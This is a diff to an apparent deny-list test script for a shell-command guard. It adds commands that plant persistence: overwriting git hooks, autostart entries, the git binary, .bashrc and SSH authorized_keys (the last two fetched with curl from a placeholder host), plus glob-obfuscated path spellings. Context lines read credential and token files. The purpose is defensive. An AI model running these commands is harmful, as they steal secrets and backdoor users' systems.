@@ -472,6 +472,20 @@ cat ~/.s3cfg
 cat ~/.cache/huggingface/token
 cat ~/.config/glab-cli/config.yml
 cat ~/.local/state/guard/hmac.key
+cd .git/hooks && cp ../../x pre-commit
+cd .git && mv ../x hooks/pre-push
+cd ~/.config/autostart && cp /tmp/x x.desktop
+cd /usr/local/bin && cp /tmp/x git
+cd $HOME; tar -xf /tmp/x.tar
+cd ~ && rsync -a /tmp/x/ .
+cd ~ && curl -O https://x/.bashrc
+cd ~/.ssh && curl -o authorized_keys https://x
+cd .git && cp /tmp/x config
+cp x .g?t/hooks/pre-commit
+cp x .git/h*/pre-commit
+cp x .gi[t]/hooks/pre-commit
+cp x ~/.bash*
+mv x .git/*/pre-commit
 """
 L = open(os.path.join(D, "deny.txt")).read().splitlines()
 L.append("# exec payloads carrying a denylisted command, in every spelling")
